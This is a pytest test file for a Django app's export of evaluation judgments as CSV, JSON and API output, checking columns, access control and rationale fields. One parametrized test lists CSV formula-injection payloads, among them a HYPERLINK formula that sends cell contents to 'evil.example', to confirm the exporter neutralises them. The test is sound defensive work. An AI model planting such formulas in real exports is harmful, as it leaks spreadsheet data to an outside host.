"""Judgment export: CSV and JSON pages, API, auth."""

from __future__ import annotations

import csv
import io
import json

import pytest

from evalhub.core.services import api_key_create
from judging.exports import EXPORT_COLUMNS
from tests.judging._results_data import add_votes, make_world

pytestmark = pytest.mark.django_db


@pytest.fixture
def world():
    w = make_world(n_variants=2, n_prompts=3, n_reviewers=2, slug="ex", criteria=["tone"])
    add_votes(w, [
        {"a": 0, "b": 1, "prompt": 0, "reviewer": 0, "outcome": "a", "criteria": {"tone": "b"}, "seconds": 12.5},
        {"a": 0, "b": 1, "prompt": 1, "reviewer": 1, "outcome": "both_bad", "identity_flag": True, "excluded": True},
    ])
    return w


def _body(response) -> str:
    return b"".join(response.streaming_content).decode()


def test_csv_export(engineer_client, world):
    response = engineer_client.get("/judge/campaigns/ex/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(_body(response))))
    assert list(rows[0]) == EXPORT_COLUMNS
    first, second = rows
    assert first["campaign"] == "ex"
    assert first["variant_a"] == world.variants[0].slug
    assert first["variant_b"] == world.variants[1].slug
    assert first["outcome"] == "a"
    assert json.loads(first["criteria"]) == {"tone": "b"}
    assert first["seconds"] == "12.5"
    assert first["reviewer"] == world.reviewers[0].username
    assert first["prompt_id"] == str(world.prompts[0].pk)
    assert first["category"] == world.prompts[0].category
    assert second["outcome"] == "both_bad"
    assert second["excluded"] == "True"
    assert second["identity_flag"] == "True"


def test_json_export_and_auth(engineer_client, viewer_client, client, world):
    body = json.loads(_body(engineer_client.get("/judge/campaigns/ex/export.json")))
    assert body["campaign"] == "ex"
    assert body["columns"] == EXPORT_COLUMNS
    assert len(body["judgments"]) == 2
    assert body["judgments"][0]["criteria"] == {"tone": "b"}
    assert viewer_client.get("/judge/campaigns/ex/export.csv").status_code == 403
    assert viewer_client.get("/judge/campaigns/ex/export.json").status_code == 403
    assert client.get("/judge/campaigns/ex/export.csv").status_code == 302
    assert engineer_client.get("/judge/campaigns/nope/export.csv").status_code == 404


def test_export_api(engineer, engineer_client, viewer_client, client, world):
    url = "/api/v1/judging/campaigns/ex/judgments"
    assert client.get(url).status_code == 401
    assert viewer_client.get(url).status_code == 403
    assert engineer_client.get("/api/v1/judging/campaigns/nope/judgments").status_code == 404
    _, raw = api_key_create(owner=engineer, name="read", scopes=["read"])
    response = client.get(url, HTTP_AUTHORIZATION=f"Bearer {raw}")
    assert response.status_code == 200
    assert [j["outcome"] for j in json.loads(_body(response))["judgments"]] == ["a", "both_bad"]


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A2)",
                                     "\t=1+1"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(engineer_client, world, payload):
    from judging.models import Judgment

    Judgment.objects.filter(reviewer=world.reviewers[0]).update(rationale=payload)
    rows = list(csv.DictReader(io.StringIO(_body(engineer_client.get("/judge/campaigns/ex/export.csv")))))
    assert rows[0]["rationale"] == "'" + payload
    assert rows[0]["seconds"] == "12.5"  # numbers stay numbers


def test_rationales_are_in_the_exports_and_the_api(engineer_client, world):
    from judging.models import Judgment

    Judgment.objects.filter(reviewer=world.reviewers[0]).update(rationale="A cites its source")
    csv_rows = list(csv.DictReader(io.StringIO(_body(engineer_client.get("/judge/campaigns/ex/export.csv")))))
    assert [r["rationale"] for r in csv_rows] == ["A cites its source", ""]
    api = json.loads(_body(engineer_client.get("/api/v1/judging/campaigns/ex/judgments")))
    assert [j["rationale"] for j in api["judgments"]] == ["A cites its source", ""]


def test_numbers_written_as_text_stay_numbers():
    from evalhub.core.csvsafe import safe_cell

    assert [safe_cell(v) for v in ["-0.25", "+3", "-1e-06", "-5%", "-2+3", "=1", "@x", "plain", -1.5]] == [
        "-0.25", "+3", "-1e-06", "-5%", "'-2+3", "'=1", "'@x", "plain", -1.5]
